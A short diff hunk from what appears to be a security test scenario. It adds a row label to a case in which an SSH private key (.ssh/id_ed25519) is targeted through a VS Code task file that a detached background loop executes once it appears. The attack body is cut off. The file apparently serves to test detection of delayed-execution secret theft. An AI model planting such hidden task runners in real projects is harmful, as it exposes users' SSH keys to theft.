@@ -1,5 +1,6 @@
 # SPDX-License-Identifier: Apache-2.0
 TITLE="the secret is planted in an editor task that an innocent parent runs later"
+ROW="B03 E12"
 FORM=daemon CLASS=ssh-key SECRET=.ssh/id_ed25519
 prepare() { setsid sh -c 'while ! [ -s .vscode/tasks.sh ]; do sleep 0.1; done; sleep 0.2; sh .vscode/tasks.sh' & }
 attack() {
